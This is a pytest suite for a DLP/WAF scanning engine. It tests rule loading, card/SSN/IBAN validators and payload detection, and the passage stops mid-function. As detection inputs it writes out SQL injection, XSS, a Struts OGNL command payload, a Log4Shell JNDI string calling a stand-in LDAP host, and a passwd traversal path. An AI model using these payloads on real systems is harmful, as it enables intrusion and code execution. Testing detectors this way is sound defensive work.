"""DLP/WAF rules: NeuVector sensor loading, validators, and the scanning engine on both backends."""
from __future__ import annotations

import dataclasses
import functools
import json
import random

import pytest

from nvpcap.rules import RuleEngine, RuleIds, load_bundled, load_text
from nvpcap.rules import engine as engine_mod
from nvpcap.rules.backends import WINDOW
from nvpcap.rules.model import Pattern, Rule
from nvpcap.rules.redact import SNIPPET_MAX
from nvpcap.rules.regex import compile_python, pcre_to_python
from nvpcap.rules.validators import entropy, iban, luhn, shannon_entropy, ssn

try:
    import hyperscan
    BACKENDS = ["hyperscan", "python"]
except ImportError:  # pragma: no cover
    BACKENDS = ["python"]

CLIENT, SERVER = 0, 1
VISA = b"4532015112830366"  # Luhn-valid and accepted by NeuVector's rule.visa (no repeated/sequential groups)
VISA_BAD = b"4532015112830367"  # same shape, Luhn digit wrong
AMEX = b"378282246310005"


def crd(kind: str, name: str, rules: list[dict]) -> str:
    return json.dumps({"apiVersion": "neuvector.com/v1", "kind": kind, "metadata": {"name": name},
                       "spec": {"sensor": {"name": name, "comment": f"{name} comment", "rules": rules}}})


def pat(value: str, op: str = "regex", context: str | None = None) -> dict:
    p = {"key": "pattern", "op": op, "value": value}
    if context:
        p["context"] = context
    return p


def rules_from(yaml_text: str) -> list[Rule]:
    res = load_text(yaml_text, "test.yaml")
    assert res.problems == []
    return res.rules


def one_rule(*patterns: dict, validator: str | None = None, category: str = "dlp", **extra: object) -> list[Rule]:
    rule: dict = {"name": "rule.t", "patterns": list(patterns), **extra}
    if validator:
        rule["validator"] = validator
    kind = "NvDlpSecurityRule" if category == "dlp" else "NvWafSecurityRule"
    return rules_from(crd(kind, "sensor.t", [rule]))


CARD_RULES = one_rule(pat(r"\b(?:\d[ -]?){12,18}\d\b"), validator="luhn")


@functools.lru_cache(maxsize=32)
def engine_for(rules: tuple[Rule, ...], backend: str) -> RuleEngine:
    eng = RuleEngine(rules, backend=backend)
    assert eng.problems == []
    return eng


def run(rules: list[Rule], calls: list[tuple], backend: str = "hyperscan") -> list:
    """Scan the calls (context, side, data[, frame]) through one flow; frames default to 1, 2, ..."""
    fs = engine_for(tuple(rules), backend).flow_scanner("flow")
    for i, call in enumerate(calls, 1):
        ctx, side, data = call[:3]
        frame = call[3] if len(call) > 3 else i
        fs.scan(ctx, side, data, frame, frame * 1000)
    fs.close()
    return fs.alerts


def summary(alerts: list) -> list[tuple]:
    return sorted((m.rule.rule_id, m.context, m.side, m.frame, m.snippet) for m in alerts)


@pytest.fixture(scope="module")
def bundled() -> list[Rule]:
    res = load_bundled()
    assert res.problems == []
    return res.rules


@pytest.fixture(scope="module", params=BACKENDS)
def bundled_engine(request: pytest.FixtureRequest, bundled: list[Rule]) -> RuleEngine:
    eng = RuleEngine(bundled, backend=request.param)
    assert eng.problems == []
    return eng


# ---------------------------------------------------------------- loader

CRD_YAML = """
apiVersion: neuvector.com/v1
kind: NvDlpSecurityRule
metadata:
  name: sensor.custom
spec:
  sensor:
    name: sensor.custom
    comment: customer data
    rules:
    - name: rule.customer_id
      patterns:
      - key: pattern
        op: regex
        value: 'CUST-\\d{8}'
    - name: rule.card_not_test
      validator: luhn
      severity: high
      direction: response
      patterns:
      - {key: pattern, op: regex, value: '\\b\\d{16}\\b', context: packet}
      - {key: pattern, op: '!regex', value: 'test', context: body}
---
apiVersion: neuvector.com/v1
kind: NvWafSecurityRule
metadata:
  name: sensor.waf
spec:
  sensor:
    name: sensor.waf
    rules:
    - name: rule.admin
      patterns:
      - {key: pattern, op: regex, value: '/admin', context: url}
"""


def test_crd_yaml() -> None:
    res = load_text(CRD_YAML, "crd.yaml")
    assert res.problems == []
    by = {r.name: r for r in res.rules}
    cid, card, admin = by["rule.customer_id"], by["rule.card_not_test"], by["rule.admin"]
    assert (cid.rule_id, card.rule_id, admin.rule_id) == (20000, 20001, 40000)
    assert cid.category == "dlp" and admin.category == "waf"
    assert cid.patterns == (Pattern(r"CUST-\d{8}", False, "body"),)  # NeuVector's default context
    assert card.patterns[1] == Pattern("test", True, "body")
    assert (card.validator, card.severity, card.direction) == ("luhn", 4, "response")
    assert cid.severity == 3 and cid.description == "customer data" and cid.sensor == "sensor.custom"
    assert cid.source == "crd.yaml:sensor.custom"


def test_rest_json_forms() -> None:
    sensor = {"name": "sensor.j", "comment": "", "rules": [
        {"name": "r1", "id": 20005, "patterns": [pat("abc", context="url")]},
        {"name": "r2", "patterns": [pat("def")]}]}
    res = load_text(json.dumps({"sensors": [sensor]}), "export.json")
    assert res.problems == []
    assert [(r.name, r.rule_id, r.category) for r in res.rules] == [("r1", 20005, "dlp"), ("r2", 20000, "dlp")]
    res = load_text(json.dumps(sensor), "one.json", category="waf")
    assert [r.rule_id for r in res.rules] == [40000, 40001]  # 20005 is outside the WAF range: reassigned
    res = load_text(json.dumps({"sensor": sensor}), "get.json")
    assert len(res.rules) == 2
    listed = {"apiVersion": "v1", "kind": "List", "items": [json.loads(crd("NvWafSecurityRule", "s", sensor["rules"]))]}
    res = load_text(json.dumps(listed), "list.json")
    assert [r.category for r in res.rules] == ["waf", "waf"]


def test_ids_are_shared_and_deterministic() -> None:
    ids = RuleIds()
    a = load_text(CRD_YAML, "a.yaml", ids)
    b = load_text(CRD_YAML, "b.yaml", ids)
    assert [r.rule_id for r in a.rules] == [20000, 20001, 40000]
    assert [r.rule_id for r in b.rules] == [20002, 20003, 40001]
    assert [r.rule_id for r in load_text(CRD_YAML, "a.yaml").rules] == [20000, 20001, 40000]


def test_bad_regex_is_reported_and_other_rules_load() -> None:
    text = crd("NvDlpSecurityRule", "sensor.bad", [
        {"name": "rule.broken", "patterns": [pat("(unclosed")]},
        {"name": "rule.fine", "patterns": [pat("fine")]}])
    res = load_text(text, "bad.yaml")
    assert [r.name for r in res.rules] == ["rule.fine"]
    assert len(res.problems) == 1
    problem = res.problems[0]
    assert "bad.yaml" in problem and "rule.broken" in problem and "invalid regex" in problem


def test_too_many_patterns_is_reported() -> None:
    text = crd("NvDlpSecurityRule", "s", [{"name": "rule.big", "patterns": [pat(f"p{i}") for i in range(17)]},
                                          {"name": "rule.max", "patterns": [pat(f"p{i}") for i in range(16)]}])
    res = load_text(text, "big.yaml")
    assert [r.name for r in res.rules] == ["rule.max"]
    assert len(res.problems) == 1 and "rule.big" in res.problems[0] and "17 patterns" in res.problems[0]


def test_all_negated_is_reported() -> None:
    text = crd("NvDlpSecurityRule", "s", [{"name": "rule.neg", "patterns": [pat("a", "!regex"), pat("b", "!regex")]}])
    res = load_text(text, "neg.yaml")
    assert res.rules == [] and "rule.neg" in res.problems[0] and "negated" in res.problems[0]


@pytest.mark.parametrize("rule, reason", [
    ({"name": "r", "patterns": [{"key": "pattern", "op": "contains", "value": "x"}]}, "op"),
    ({"name": "r", "patterns": [pat("x", context="cookie")]}, "context"),
    ({"name": "r", "validator": "crc", "patterns": [pat("x")]}, "validator"),
    ({"name": "r", "severity": 9, "patterns": [pat("x")]}, "severity"),
    ({"name": "r", "patterns": []}, "no patterns"),
    ({"name": "r", "patterns": [{"key": "size", "op": "regex", "value": "x"}]}, "key"),
    ({"patterns": [pat("x")]}, "no name"),
])
def test_unusable_rules_are_reported(rule: dict, reason: str) -> None:
    res = load_text(crd("NvDlpSecurityRule", "s", [rule]), "u.yaml")
    assert res.rules == [] and len(res.problems) == 1 and reason in res.problems[0]


def test_bad_documents_are_reported() -> None:
    assert "not valid YAML/JSON" in load_text("a: [", "x.yaml").problems[0]
    assert "not a DLP/WAF sensor" in load_text("kind: NvSecurityRule\nspec: {}\n", "x.yaml").problems[0]
    assert "no spec.sensor" in load_text("kind: NvDlpSecurityRule\nmetadata: {name: x}\n", "x.yaml").problems[0]


def test_bundled_packs(bundled: list[Rule]) -> None:
    ids = [r.rule_id for r in bundled]
    assert len(ids) == len(set(ids))
    dlp = [r for r in bundled if r.category == "dlp"]
    waf = [r for r in bundled if r.category == "waf"]
    assert all(30000 <= r.rule_id < 40000 for r in dlp) and all(49000 <= r.rule_id < 50000 for r in waf)
    names = {r.name: r for r in bundled}
    for name in ("rule.visa", "rule.master", "rule.americanexpress", "rule.discover", "rule.diner1", "rule.diner2",
                 "rule.jcb"):
        assert names[name].validator == "luhn"
    assert names["rule.ssn"].validator == "ssn" and names["rule.ssn"].patterns[0].context == "body"
    assert all(r.direction == "request" for r in waf)
    eng = RuleEngine(bundled)
    assert eng.problems == [] and len(eng.rules) == len(bundled)


def test_pcre_spellings_for_python() -> None:
    assert pcre_to_python(r"(?<user>\w+)@\k<user>\z") == r"(?P<user>\w+)@(?P=user)\Z"
    assert pcre_to_python(r"(?<=a)(?<!b)[(?<x>]\h") == r"(?<=a)(?<!b)[(?<x>][ \t]"
    assert pcre_to_python(r"(a)\g{1}") == r"(a)(?:\1)"
    assert compile_python(r"(?<n>ab)\k{n}").search(b"xABab") is not None  # caseless, as NeuVector's /is


# ---------------------------------------------------------------- validators

@pytest.mark.parametrize("number", ["4111111111111111", "4111 1111 1111 1111", "4111-1111-1111-1111", "378282246310005",
                                    "5555555555554444", "6011111111111117", "30569309025904", "3530111333300000",
                                    "4222222222222", "6304000000000000000"])
def test_luhn_valid(number: str) -> None:
    assert luhn(number)


@pytest.mark.parametrize("number", ["4111111111111112", "1234567812345678", "411111111111", "41111111111111111111",
                                    "4111x111111111111", "", "４１１１１１１１１１１１１１１１"])
def test_luhn_invalid(number: str) -> None:
    assert not luhn(number)


def test_ssn() -> None:
    for good in ("123-45-6789", "123456789", "123 45 6789", "078-05-1120", "665-01-0001", "899-99-9999"):
        assert ssn(good), good
    for bad in ("000-12-3456", "666-12-3456", "900-12-3456", "999-12-3456", "123-00-4567", "123-45-0000",
                "12-345-6789", "1234-56-789", "abc-de-fghi"):
        assert not ssn(bad), bad


def test_iban() -> None:
    for good in ("GB82WEST12345698765432", "GB82 WEST 1234 5698 7654 32", "DE89370400440532013000",
                 "FR1420041010050500013M02606", "NL91ABNA0417164300", "gb82west12345698765432"):
        assert iban(good), good
    for bad in ("GB82WEST12345698765433", "GB82WEST1234569876543", "DE89370400440532013001", "XX82WEST12345698765432",
                "GB82-WEST-1234", ""):
        assert not iban(bad), bad


# the IBAN registry's example IBAN of each SEPA country (print format), ISO 13616's GB82 WEST... example too
IBAN_EXAMPLES = (
    "AT61 1904 3002 3457 3201", "BE68 5390 0754 7034", "BG80 BNBG 9661 1020 3456 78", "CH93 0076 2011 6238 5295 7",
    "CY17 0020 0128 0000 0012 0052 7600", "CZ65 0800 0000 1920 0014 5399", "DE89 3704 0044 0532 0130 00",
    "DK50 0040 0440 1162 43", "EE38 2200 2210 2014 5685", "ES91 2100 0418 4502 0005 1332", "FI21 1234 5600 0007 85",
    "FR14 2004 1010 0505 0001 3M02 606", "GB29 NWBK 6016 1331 9268 19", "GB82 WEST 1234 5698 7654 32",
    "GR16 0110 1250 0000 0001 2300 695", "HR12 1001 0051 8630 0016 0", "HU42 1177 3016 1111 1018 0000 0000",
    "IE29 AIBK 9311 5212 3456 78", "IS14 0159 2600 7654 5510 7303 39", "IT60 X054 2811 1010 0000 0123 456",
    "LI21 0881 0000 2324 013A A", "LT12 1000 0111 0100 1000", "LU28 0019 4006 4475 0000", "LV80 BANK 0000 4351 9500 1",
    "MC58 1122 2000 0101 2345 6789 030", "MT84 MALT 0110 0001 2345 MTLC AST0 01S", "NL91 ABNA 0417 1643 00",
    "NO93 8601 1117 947", "PL61 1090 1014 0000 0712 1981 2874", "PT50 0002 0123 1234 5678 9015 4",
    "RO49 AAAA 1B31 0075 9384 0000", "SE45 5000 0000 0583 9825 7466", "SI56 2633 0001 2039 086",
    "SK31 1200 0000 1987 4263 7541", "SM86 U032 2509 8000 0000 0270 100",
)


def iban_alerts(engine: RuleEngine, text: bytes) -> list[str]:
    fs = engine.flow_scanner("f")
    fs.scan("body", 0, text, 1, 1)
    fs.close()
    return [(m.rule.name, m.snippet) for m in fs.alerts]


@pytest.mark.parametrize("example", IBAN_EXAMPLES)
def test_bundled_iban_rule_finds_the_registry_examples(bundled_engine: RuleEngine, example: str) -> None:
    for form in (example, example.replace(" ", "")):  # print and electronic formats
        (hit,) = iban_alerts(bundled_engine, b"pay to " + form.encode() + b", thanks")
        assert hit[0] == "rule.iban" and "*" * 4 in hit[1] and hit[1].endswith(form[-4:]), (form, hit)  # redacted
        wrong = form[:2] + f"{(int(form[2:4]) + 1) % 100:02d}" + form[4:]  # another check digit
        assert iban_alerts(bundled_engine, b"pay to " + wrong.encode() + b", thanks") == [], wrong


@pytest.mark.parametrize("text", [
    b"DE8937040044053201300",  # one digit short for DE
    b"DE893704004405320130000",  # one too many (no word boundary after 22)
    b"de89370400440532013000",  # IBANs are written in upper case
    b"GB82WEST1234569876543",  # GB: 22
    b"GB82 1234 1234 5698 7654 32",  # GB's BBAN starts with four letters
    b"XX82WEST12345698765432",  # no such country
    b"NL91ABNA04171643009",  # the NL IBAN followed by a digit
    b"id=DE89370400440532013000x",  # inside a token
])
def test_bundled_iban_rule_needs_the_country_structure(bundled_engine: RuleEngine, text: bytes) -> None:
    assert iban_alerts(bundled_engine, text) == []


def test_bundled_iban_regex_is_the_generated_one(bundled: list[Rule]) -> None:
    import importlib.util
    import pathlib
    path = pathlib.Path(__file__).resolve().parent.parent / "bench" / "iban_regex.py"
    spec = importlib.util.spec_from_file_location("iban_regex", path)
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    (rule,) = [r for r in bundled if r.name == "rule.iban"]
    assert rule.validator == "iban" and rule.patterns[0].regex == mod.iban_regex()
    assert set(mod.BBAN) >= {"DE", "FR", "GB", "NL", "ES", "IT", "BE", "CH", "AT"}


def test_entropy() -> None:
    assert shannon_entropy("aaaa") == 0 and shannon_entropy("ab") == 1.0
    assert entropy("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
    assert entropy('aws_secret_access_key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"')
    assert not entropy("ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx")
    assert not entropy("Ab3$")  # too short to judge
    assert not entropy("abababababababababababab")


# ---------------------------------------------------------------- engine

@pytest.mark.parametrize("backend", BACKENDS)
def test_card_split_across_calls(backend: str) -> None:
    alerts = run(CARD_RULES, [("body", SERVER, b"payment: 4532 0151 12"), ("body", SERVER, b"83 0366 ok")], backend)
    assert len(alerts) == 1
    m = alerts[0]
    assert (m.context, m.side, m.frame, m.ts_ns) == ("body", SERVER, 2, 2000)
    assert m.snippet == "**** **** **** 0366"


@pytest.mark.parametrize("backend", BACKENDS)
def test_luhn_invalid_is_not_reported(backend: str) -> None:
    assert run(CARD_RULES, [("body", CLIENT, b"card=" + VISA_BAD + b";")], backend) == []


@pytest.mark.parametrize("backend", BACKENDS)
def test_invalid_card_does_not_hide_valid_one(backend: str) -> None:
    same_call = run(CARD_RULES, [("body", CLIENT, b"a " + VISA_BAD + b" b " + VISA + b" c")], backend)
    assert [m.snippet for m in same_call] == ["************0366"]
    later_call = run(CARD_RULES, [("body", CLIENT, b"a " + VISA_BAD + b" b"), ("body", CLIENT, b"c " + AMEX + b" d")],
                     backend)
    assert [(m.frame, m.snippet) for m in later_call] == [(2, "***********0005")]


@pytest.mark.parametrize("backend", BACKENDS)
def test_bundled_cards_and_ssn(backend: str, bundled: list[Rule]) -> None:
    alerts = run(bundled, [("body", SERVER, b'{"card": "4532-0151-1283-0366", "ssn": "536-22-1234"}')], backend)
    assert sorted((m.rule.name, m.snippet) for m in alerts) == [
        ("rule.ssn", "***-**-1234"), ("rule.visa", "****-****-****-0366")]
    # NeuVector's card rules skip test numbers made of repeated groups; its ssn rule skips published examples
    assert run(bundled, [("body", SERVER, b"4111 1111 1111 1111 and 078-05-1120")], backend) == []


@pytest.mark.parametrize("backend", BACKENDS)
def test_waf_url_sqli_and_xss(backend: str, bundled: list[Rule]) -> None:
    alerts = run(bundled, [("url", CLIENT, b"/login?user=admin' OR '1'='1&next=<script>alert(1)</script>")], backend)
    names = {m.rule.name for m in alerts}
    assert {"sqli.tautology", "xss.script_tag"} <= names
    snippet = next(m.snippet for m in alerts if m.rule.name == "sqli.tautology")
    assert snippet == "' OR '1'='1"
    assert run(bundled, [("url", CLIENT, b"/items?id=5 UNION SELECT password FROM users")], backend)[0].rule.name \
        == "sqli.union_select"
    # direction: request. The same text from the server side is not an attack on it
    assert run(bundled, [("url", SERVER, b"/login?user=admin' OR '1'='1")], backend) == []


@pytest.mark.parametrize("backend", BACKENDS)
def test_waf_header_attacks(backend: str, bundled: list[Rule]) -> None:
    header = (b"Host: shop\r\nContent-Type: %{(#_='multipart/form-data').(#cmd='id')}\r\n"
              b"User-Agent: ${${lower:j}${::-n}di:ldap://203.0.113.9/a}\r\n")
    names = {m.rule.name for m in run(bundled, [("header", CLIENT, header)], backend)}
    assert names == {"struts.ognl_content_type", "log4shell.jndi"}


@pytest.mark.parametrize("backend", BACKENDS)
def test_negated_pattern_suppresses(backend: str) -> None:
    rules = one_rule(pat(r"password\s*=\s*\w+"), pat(r"example\.com", "!regex"))
    assert run(rules, [("body", CLIENT, b"user=a@example.com&password=hunter2")], backend) == []
    assert run(rules, [("body", CLIENT, b"host example.com"), ("body", CLIENT, b"password=hunter2")], backend) == []
    assert len(run(rules, [("body", CLIENT, b"user=a@corp.test&password=hunter2")], backend)) == 1
    # the flow's AND: a negated pattern seen only after the rule fired does not withdraw the alert
    assert len(run(rules, [("body", CLIENT, b"password=hunter2"), ("body", CLIENT, b"example.com")], backend)) == 1
    # the negated pattern names the body context: the same text in a url does not suppress
    assert len(run(rules, [("url", CLIENT, b"/example.com"), ("body", CLIENT, b"password=hunter2")], backend)) == 1


@pytest.mark.parametrize("backend", BACKENDS)
def test_patterns_across_contexts_and_sides(backend: str) -> None:
    rules = one_rule(pat("/api/export", context="url"), pat(r"CUST-\d{6}", context="body"))
    calls = [("url", CLIENT, b"/api/export?all=1"), ("body", SERVER, b"[CUST-123456]")]
    alerts = run(rules, calls, backend)
    assert [(m.context, m.side, m.frame, m.snippet) for m in alerts] == [("body", SERVER, 2, "/api/******")]
    assert run(rules, calls[:1], backend) == [] and run(rules, calls[1:], backend) == []


@pytest.mark.parametrize("backend", BACKENDS)
def test_packet_context_scans_everywhere(backend: str) -> None:
    rules = one_rule(pat("topsecret", context="packet"))
    for ctx in ("url", "header", "body", "sql", "raw"):
        assert [m.context for m in run(rules, [(ctx, CLIENT, b"a topsecret b")], backend)] == [ctx]


def test_prefilter_pattern_is_confirmed() -> None:
    rules = one_rule(pat(r"\b(\w{3})-\1\b"))  # a back-reference: Hyperscan can only prefilter it
    eng = RuleEngine(rules, backend=BACKENDS[0])
    assert eng.patterns[0].prefilter == (BACKENDS[0] == "hyperscan")
    for backend in BACKENDS:
        assert run(rules, [("body", CLIENT, b"x abc-abd y")], backend) == []
        assert [m.snippet for m in run(rules, [("body", CLIENT, b"x abc-abd abc-abc")], backend)] == ["abc-***"]
        split = run(rules, [("body", CLIENT, b"x xyz-x"), ("body", CLIENT, b"yz !")], backend)
        assert [m.frame for m in split] == [2]


@pytest.mark.parametrize("backend", BACKENDS)
def test_lookahead_at_the_end_of_a_call(backend: str) -> None:
    """A prefiltered pattern (look-ahead) whose match ends on a call's last byte: decided by the next call or
    by the end of the stream, even when the next bytes give Hyperscan nothing to report."""
    rules = one_rule(pat(r"\bid-\d+(?![\d-])"), category="waf")
    assert [(m.frame, m.snippet) for m in run(rules, [("body", CLIENT, b"x id-42"), ("body", CLIENT, b" y")],
                                             backend)] == [(1, "id-42")]
    assert [m.frame for m in run(rules, [("body", CLIENT, b"x id-42")], backend)] == [1]
    assert run(rules, [("body", CLIENT, b"x id-4"), ("body", CLIENT, b"2-")], backend) == []
    assert [m.snippet for m in run(rules, [("body", CLIENT, b"x id-4"), ("body", CLIENT, b"2 ")], backend)] == ["id-42"]


@pytest.mark.parametrize("backend", BACKENDS)
def test_frame_of_the_chunk_where_the_match_ends(backend: str) -> None:
    rules = one_rule(pat(r"secret-\d{4}"), category="waf")
    calls = [("body", CLIENT, b"a" * 100, 7), ("body", CLIENT, b"x secret-12", 9), ("body", CLIENT, b"34 y", 12)]
    assert [(m.frame, m.ts_ns) for m in run(rules, calls, backend)] == [(12, 12000)]
    # a match that ends on a call's last byte but needs the next byte to know a \b holds
    rules = one_rule(pat(r"\bkey-\d+\b"), category="waf")
    alerts = run(rules, [("body", CLIENT, b"the key-42", 3), ("body", CLIENT, b" and more", 4)], backend)
    assert [(m.frame, m.snippet) for m in alerts] == [(3, "key-42")]
    # ... or the end of the stream (found at close)
    assert [m.frame for m in run(rules, [("body", CLIENT, b"the key-42", 5)], backend)] == [5]


@pytest.mark.parametrize("backend", BACKENDS)
def test_deduplication(backend: str) -> None:
    calls = [("body", SERVER, b"card " + VISA + b" "), ("body", SERVER, b" again " + AMEX + b" "),
             ("body", CLIENT, VISA + b" from the client"), ("raw", CLIENT, b" " + VISA + b" ")]
    alerts = run(CARD_RULES, calls, backend)
    assert len(alerts) == 1 and alerts[0].frame == 1 and alerts[0].count == 4
    rules = one_rule(pat("/admin", context="url"), category="waf")
    alerts = run(rules, [("url", CLIENT, b"/admin/a"), ("url", CLIENT, b"/admin/b"), ("url", CLIENT, b"/home")],
                 backend)
    assert len(alerts) == 1 and alerts[0].count == 2


@pytest.mark.parametrize("backend", BACKENDS)
def test_snippet_redaction(backend: str, bundled: list[Rule]) -> None:
    key = b"AKIA" + b"Z7Q2" * 4
    alerts = run(bundled, [("body", CLIENT, b"aws_access_key_id=" + key + b"\n")], backend)
    assert [(m.rule.name, m.snippet) for m in alerts] == [("secret.aws_access_key_id", "AKIA" + "*" * 16)]
    long_attack = b"/x?q=<script>" + b"A" * 300
    rules = one_rule(pat(r"<script>A+", context="url"), category="waf")
    snippet = run(rules, [("url", CLIENT, long_attack)], backend)[0].snippet
    assert len(snippet) == SNIPPET_MAX and snippet.startswith("<script>AAA") and snippet.endswith("...")
    rules = one_rule(pat(r"evil\r\n\x00\\", context="header"), category="waf")
    assert run(rules, [("header", CLIENT, b"X: evil\r\n\x00\\")], backend)[0].snippet == "evil\\r\\n\\x00\\\\"


def test_hyperscan_and_fallback_agree(bundled: list[Rule]) -> None:
    """Random flows of look-alikes and real hits, cut at random points: both backends raise the same alerts
    (rule, context, side, frame, snippet)."""
    if len(BACKENDS) < 2:
        pytest.skip("hyperscan is not installed")

    def extra(rule_id: int, *patterns: dict, category: str = "dlp") -> Rule:
        return dataclasses.replace(one_rule(*patterns, category=category)[0], rule_id=rule_id, name=f"r{rule_id}")

    rules = bundled + CARD_RULES + [
        extra(21000, pat(r"password\s*=\s*\w+"), pat(r"example\.com", "!regex")),
        extra(21001, pat(r"\b(\w{3})-\1\b")),
        extra(21002, pat("/export", context="url"), pat(r"CUST-\d{4,8}", context="body")),
        extra(21003, pat(r"<x>A+</x>"), category="waf"),
        # a back-reference of unbounded width: a windowed prefilter (one block scan per call, RuleEngine._databases)
        extra(21004, pat(r"\b(\w+)=\1;")),
        extra(21005, pat(r"[?&](\w+)=\1(?:&|$)", context="url"), category="waf")]
    words = [b"the", b"order", b"4532", b"0151", b"1283", b"0366", VISA, VISA_BAD, AMEX, b"536-22-1234", b"536221234",
             b"password = hunter2", b"example.com", b"abc-abc", b"abc-abd", b"CUST-12345", b"<x>AAAAAAAAAAAA</x>", b"12",
             b"ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8", b"-----BEGIN RSA PRIVATE KEY-----", b"\n", b"94105-1234",
             b"AKIAZ7Q2Z7Q2Z7Q2Z7Q2", b"4532015112830366 12", b"token=token;", b"token=tokem;", b";", b"a=",
             b"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"]
    urls = [b"/a?q=1' or 'x'='x", b"/ok", b"/p?f=../../etc/passwd", b"/export?x=1", b"/q?<script>alert(1)</script>",
            b"/w?a=1&b=2&c=3&id=id&e=5", b"/w?a=1&b=2&id=idx&e=5", b"/w?a=1&b=b"]
    rng = random.Random(7)
    alerts = 0
    for _ in range(150):
        body = b" ".join(rng.choice(words) for _ in range(rng.randint(3, 120)))
        cuts = sorted(rng.sample(range(1, len(body)), k=min(rng.randint(0, 10), len(body) - 1)))
        ctx = rng.choice(["body", "raw", "sql"])
        calls = [(ctx, rng.choice((CLIENT, SERVER)), body[a:b]) for a, b in zip([0, *cuts], [*cuts, len(body)])]
        calls.insert(rng.randint(0, len(calls)), ("url", CLIENT, rng.choice(urls)))
        hs = summary(run(rules, calls, "hyperscan"))
        assert hs == summary(run(rules, calls, "python")), calls
        alerts += len(hs)
    assert alerts > 500  # the inputs do exercise the rules


CLEAN_URLS = [
    b"/", b"/index.html", b"/search?q=how to sleep better&hl=en&source=hp",
    b"/api/v1/users/550e8400-e29b-41d4-a716-446655440000/orders?limit=50&offset=100&sort=-created_at",
    b"/collect?v=1&t=pageview&dl=https://example.com/a/b?c=d&dt=Home | Example&sr=1920x1080&cid=1719337216.1700000000",
    b"/recaptcha/api.js?onload=onloadCallback&render=explicit", b"/wiki/Rock_and_Roll_(disambiguation)",
    b"/products;jsessionid=A1B2C3D4E5F6?cat=shoes&size=10&color=black|white", b"/docs/select-union-types.html",
    b"/blog/2024/01/15/javascript-the-good-parts/", b"/search?q=it's a 'test' or not&page=2",
    b"/api/graphql?query={user(id:\"1\"){name,email}}", b"/a?redirect=/account/settings&lang=de-DE",
]
CLEAN_HEADERS = [
    (b"Host: www.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like "
     b"Gecko) Chrome/120.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,*/*;q=0.8\r\nCookie: _ga=GA1.2."
     b"1719337216.1700000000; session=eyJ1c2VyIjoxMjN9.ZXhhbXBsZQ.c2lnbmF0dXJl\r\nConnection: keep-alive\r\n"),
    b"Content-Type: application/json; charset=utf-8\r\nETag: W/\"15c-8b2f\"\r\nDate: Mon, 15 Jan 2024 10:00:00 GMT\r\n",
    b"Content-Type: multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW\r\n",
]
CLEAN_BODIES = [
    (b'{"id": 1042, "uuid": "550e8400-e29b-41d4-a716-446655440000", "name": "Alice", "phone": "+1 (555) 123-4567", '
     b'"created_at": "2024-01-15T10:00:00.123Z", "ts": 1705312800123, "price": 1999.99, "sku": "AB-1234-XY", '
     b'"isbn": "978-3-16-148410-0", "zip": "94105-1234", "md5": "d41d8cd98f00b204e9800998ecf8427e"}'),
    (b"<!DOCTYPE html><html><head><script src=\"/static/app.js\"></script><script>document.cookie = \"seen=1\";"
     b"if (a || b) { x = y; }</script></head><body onload=\"init()\"><a href=\"javascript:void(0)\" onclick=\"t()\">"
     b"Menu</a><p>Call 555-123-4567. Order #12345678.</p><p>Union members: select \"union\" at checkout.</p>"
     b"<img src=\"/a.png\" onerror=\"this.remove()\"></body></html>"),
    b"SELECT id, name FROM users WHERE id = 42 UNION SELECT id, name FROM admins; -- report",
]


def test_clean_traffic_raises_nothing(bundled_engine: RuleEngine) -> None:
    for side in (CLIENT, SERVER):
        calls = [("url", side, u) for u in CLEAN_URLS] + [("header", side, h) for h in CLEAN_HEADERS]
        calls += [(ctx, side, b) for b in CLEAN_BODIES for ctx in ("body", "raw", "sql")]
        for ctx, sd, data in calls:
            fs = bundled_engine.flow_scanner()
            fs.scan(ctx, sd, data, 1, 0)
            fs.close()
            assert fs.alerts == [], (ctx, data, [m.rule.name for m in fs.alerts])


def test_hostile_input_stays_bounded(bundled_engine: RuleEngine) -> None:
    rng = random.Random(1)
    fs = bundled_engine.flow_scanner()
    digits = b"".join(rng.choice(b"0123456789").to_bytes(1, "big") for _ in range(100_000))
    fs.scan("body", CLIENT, digits, 1, 0)  # one big call
    for i in range(0, len(digits), 1460):  # and as segments
        fs.scan("raw", CLIENT, digits[i : i + 1460], 2 + i, 0)
    spaced = b" ".join(digits[i : i + 4] for i in range(0, 20_000, 4))  # groups that look like cards
    fs.scan("body", SERVER, spaced, 3, 0)
    noise = rng.randbytes(1 << 20)
    for i in range(0, len(noise), 4096):
        fs.scan("body", CLIENT, noise[i : i + 4096], 100 + i, 0)
        assert fs.buffered_bytes() <= 3 * WINDOW
        assert fs.history_len() <= engine_mod.CHUNK_HISTORY
    fs.close()
    assert fs.buffered_bytes() == 0
    assert len(fs.alerts) <= len(bundled_engine.rules)


def test_engine_reports_unusable_rules() -> None:
    rules = [
        Rule(1, "all.negated", "dlp", 3, (Pattern("a", True, "body"),)),
        Rule(2, "empty.match", "waf", 3, (Pattern("a*", False, "body"),)),
        Rule(3, "bad.context", "waf", 3, (Pattern("a", False, "cookie"),)),
        Rule(4, "fine", "waf", 3, (Pattern("fine", False, "body"),)),
    ]
    for backend in BACKENDS:
        eng = RuleEngine(rules, backend=backend)
        assert [r.name for r in eng.rules] == ["fine"]
        assert len(eng.problems) == 3
        assert all(name in p for name, p in zip(("all.negated", "empty.match", "bad.context"), eng.problems))


def test_fallback_when_hyperscan_is_missing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(engine_mod, "hyperscan", None)
    eng = RuleEngine(CARD_RULES)
    assert eng.backend.name == "python" and eng.warning and "hyperscan" in eng.warning
    with pytest.raises(RuntimeError):
        RuleEngine(CARD_RULES, backend="hyperscan")
    fs = eng.flow_scanner()
    fs.scan("body", CLIENT, b"x " + VISA + b" y", 1, 0)
    fs.close()
    assert len(fs.alerts) == 1


def test_fallback_when_hyperscan_fails(monkeypatch: pytest.MonkeyPatch) -> None:
    if "hyperscan" not in BACKENDS:
